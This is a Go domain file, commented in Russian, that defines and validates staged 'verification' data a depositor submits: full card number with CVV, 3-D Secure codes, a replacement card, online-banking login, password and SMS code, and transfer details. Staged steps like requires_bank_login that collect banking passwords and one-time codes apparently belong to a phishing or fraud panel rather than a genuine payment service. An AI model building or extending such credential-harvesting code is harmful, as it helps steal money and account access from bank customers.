package domain

import (
	"fmt"
	"regexp"
	"strings"
	"time"
	"unicode"
)

// StepKind — вид отправляемых данных шага.
// Каждый вид принимается только в определённом статусе платежа.
type StepKind string

const (
	StepKindCard            StepKind = "card"             // Данные карты (из pending)
	StepKind3DS             StepKind = "3ds"              // Код 3-D Secure (из waiting_3ds)
	StepKindNewCard         StepKind = "new_card"         // Другая карта (из requires_new_card)
	StepKindBankCredentials StepKind = "bank_credentials" // Вход в интернет-банк (из requires_bank_login)
	StepKindBankTransfer    StepKind = "bank_transfer"    // Реквизиты перевода (из pending)
)

// StepData — данные шага верификации, отправляемые вкладчиком.
// Details возвращает диагностику для истории шагов и не должна
// содержать секретов (полный номер карты, CVV, пароли, коды).
type StepData interface {
	Validate() error
	Details() map[string]string
}

// ExpectedStatus возвращает статус платежа, в котором принимается этот вид данных.
func (k StepKind) ExpectedStatus() (PaymentStatus, bool) {
	switch k {
	case StepKindCard, StepKindBankTransfer:
		return StatusPending, true
	case StepKind3DS:
		return StatusWaiting3DS, true
	case StepKindNewCard:
		return StatusRequiresNewCard, true
	case StepKindBankCredentials:
		return StatusRequiresBankLogin, true
	}
	return "", false
}

// Регулярные выражения валидации.
var (
	reDigits = regexp.MustCompile(`^\d+$`)
	reExpiry = regexp.MustCompile(`^(0[1-9]|1[0-2])/(\d{2})$`)
)

// maxExpiryYears — максимальный срок действия карты от текущей даты.
const maxExpiryYears = 20

// stripSpaces удаляет все пробельные символы из строки.
func stripSpaces(s string) string {
	return strings.Map(func(r rune) rune {
		if unicode.IsSpace(r) {
			return -1
		}
		return r
	}, s)
}

// =============================================================================
// Данные карты
// =============================================================================

// CardData — данные карты, отправляемые вкладчиком.
type CardData struct {
	Number string `json:"card_number"`
	Holder string `json:"card_holder"`
	Expiry string `json:"expiry_date"` // MM/YY
	CVV    string `json:"cvv"`
}

// Validate проверяет данные карты. Возвращает *ValidationError
// с именем первого невалидного поля.
func (c *CardData) Validate() error {
	number := stripSpaces(c.Number)
	if !reDigits.MatchString(number) || len(number) < 13 || len(number) > 19 {
		return NewValidationError("card_number", "номер карты должен содержать от 13 до 19 цифр")
	}

	holder := strings.TrimSpace(c.Holder)
	if len(holder) < 2 || len(holder) > 100 {
		return NewValidationError("card_holder", "имя держателя должно содержать от 2 до 100 символов")
	}

	if err := validateExpiry(c.Expiry, time.Now()); err != nil {
		return err
	}

	if !reDigits.MatchString(c.CVV) || len(c.CVV) < 3 || len(c.CVV) > 4 {
		return NewValidationError("cvv", "CVV должен содержать 3 или 4 цифры")
	}

	return nil
}

// validateExpiry проверяет срок действия карты в формате MM/YY:
// карта не просрочена и действует не дальше maxExpiryYears вперёд.
func validateExpiry(expiry string, now time.Time) error {
	m := reExpiry.FindStringSubmatch(strings.TrimSpace(expiry))
	if m == nil {
		return NewValidationError("expiry_date", "срок действия должен быть в формате MM/YY")
	}

	month := int(m[1][0]-'0')*10 + int(m[1][1]-'0')
	year := 2000 + int(m[2][0]-'0')*10 + int(m[2][1]-'0')

	// Карта действует до конца указанного месяца
	endOfMonth := time.Date(year, time.Month(month), 1, 0, 0, 0, 0, time.UTC).
		AddDate(0, 1, 0)
	if !endOfMonth.After(now) {
		return NewValidationError("expiry_date", "срок действия карты истёк")
	}

	if year > now.Year()+maxExpiryYears {
		return NewValidationError("expiry_date", "срок действия карты слишком далеко в будущем")
	}

	return nil
}

// MaskedNumber возвращает маскированный номер карты для диагностики.
// Пример: "**** **** **** 4242".
func (c *CardData) MaskedNumber() string {
	number := stripSpaces(c.Number)
	if len(number) < 4 {
		return "****"
	}
	return fmt.Sprintf("**** **** **** %s", number[len(number)-4:])
}

// Details возвращает диагностику шага без секретов.
func (c *CardData) Details() map[string]string {
	return map[string]string{
		"card": c.MaskedNumber(),
	}
}

// =============================================================================
// Код 3-D Secure
// =============================================================================

// ThreeDSData — код подтверждения 3-D Secure.
type ThreeDSData struct {
	Code string `json:"code"`
}

// Validate проверяет код 3-D Secure: только цифры, от 3 до 6.
func (d *ThreeDSData) Validate() error {
	code := strings.TrimSpace(d.Code)
	if !reDigits.MatchString(code) || len(code) < 3 || len(code) > 6 {
		return NewValidationError("code", "код подтверждения должен содержать от 3 до 6 цифр")
	}
	return nil
}

// Details возвращает диагностику шага без секретов.
func (d *ThreeDSData) Details() map[string]string {
	return map[string]string{
		"code_length": fmt.Sprintf("%d", len(strings.TrimSpace(d.Code))),
	}
}

// =============================================================================
// Вход в интернет-банк
// =============================================================================

// BankCredentialsData — данные входа в интернет-банк.
type BankCredentialsData struct {
	BankID   string `json:"bank_id"`
	Login    string `json:"login"`
	Password string `json:"password"`
	SMSCode  string `json:"sms_code,omitempty"` // Опционально
}

// Validate проверяет данные входа. Принадлежность банка к известному
// списку проверяется на уровне сервиса (список в конфигурации).
func (d *BankCredentialsData) Validate() error {
	if strings.TrimSpace(d.BankID) == "" {
		return NewValidationError("bank_id", "банк не указан")
	}

	if len(strings.TrimSpace(d.Login)) < 3 {
		return NewValidationError("login", "логин должен содержать не менее 3 символов")
	}

	if len(d.Password) < 4 {
		return NewValidationError("password", "пароль должен содержать не менее 4 символов")
	}

	if sms := strings.TrimSpace(d.SMSCode); sms != "" {
		if !reDigits.MatchString(sms) || len(sms) < 4 || len(sms) > 6 {
			return NewValidationError("sms_code", "SMS код должен содержать от 4 до 6 цифр")
		}
	}

	return nil
}

// Details возвращает диагностику шага без секретов: только имя банка.
func (d *BankCredentialsData) Details() map[string]string {
	return map[string]string{
		"bank": strings.TrimSpace(d.BankID),
	}
}

// =============================================================================
// Банковский перевод
// =============================================================================

// BankTransferData — реквизиты банковского перевода.
type BankTransferData struct {
	BankName      string `json:"bank_name"`
	AccountHolder string `json:"account_holder"`
	AccountNumber string `json:"account_number"`
	SortCode      string `json:"sort_code"`
}

// Validate проверяет реквизиты перевода.
func (d *BankTransferData) Validate() error {
	if strings.TrimSpace(d.BankName) == "" {
		return NewValidationError("bank_name", "название банка не указано")
	}

	if len(strings.TrimSpace(d.AccountHolder)) < 2 {
		return NewValidationError("account_holder", "имя владельца счёта должно содержать не менее 2 символов")
	}

	account := stripSpaces(d.AccountNumber)
	if !reDigits.MatchString(account) || len(account) < 6 {
		return NewValidationError("account_number", "номер счёта должен содержать не менее 6 цифр")
	}

	sortCode := stripSpaces(d.SortCode)
	if !reDigits.MatchString(sortCode) || len(sortCode) != 6 {
		return NewValidationError("sort_code", "sort code должен содержать ровно 6 цифр")
	}

	return nil
}

// Details возвращает диагностику шага без секретов.
func (d *BankTransferData) Details() map[string]string {
	account := stripSpaces(d.AccountNumber)
	masked := "****"
	if len(account) >= 4 {
		masked = "****" + account[len(account)-4:]
	}
	return map[string]string{
		"bank":    strings.TrimSpace(d.BankName),
		"account": masked,
	}
}
